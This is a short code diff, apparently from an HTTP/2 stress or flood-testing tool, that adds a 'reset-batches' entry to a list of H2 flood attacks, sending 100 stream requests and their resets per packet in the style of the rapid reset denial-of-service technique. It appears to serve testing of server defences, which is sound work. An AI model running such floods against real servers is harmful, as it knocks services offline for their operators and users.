@@ -22,6 +22,13 @@ const PROVOCATIONS: readonly ((id: number) => Buffer)[] = [
 
 const ping = encodeFrame(FrameType.PING, 0, 0, Buffer.alloc(8));
 const settings = encodeFrame(FrameType.SETTINGS, 0, 0);
+/** In turns: as many requests as may be open at once, and their resets. */
+function batchPart(n: number): Buffer {
+  const make = n % 2 === 0 ? get : rst;
+  const first = (n >> 1) * 100;
+  return Buffer.concat(Array.from({ length: 100 }, (_, i) => make(streamId(first + i))));
+}
+
 /** As many settings as fit in a frame, each of which moves every stream's window. */
 const manySettings = encodeFrame(
   FrameType.SETTINGS,
@@ -63,6 +70,15 @@ export const H2_FLOODS: readonly Attack[] = [
     ends: CALM_RESETS,
     limits: ['resets'],
     run: (target) => flood(target, (n) => Buffer.concat([get(streamId(n)), rst(streamId(n))])),
+  },
+  {
+    name: 'reset-batches',
+    title: 'rapid reset of 100 streams at a time, in a packet of their own',
+    protocol: 'h2',
+    sees: SEES_RESETS,
+    ends: CALM_RESETS,
+    limits: ['resets'],
+    run: (target) => flood(target, batchPart, { batch: 1, after: { ms: 1 } }),
   },
   {
     name: 'made-you-reset',
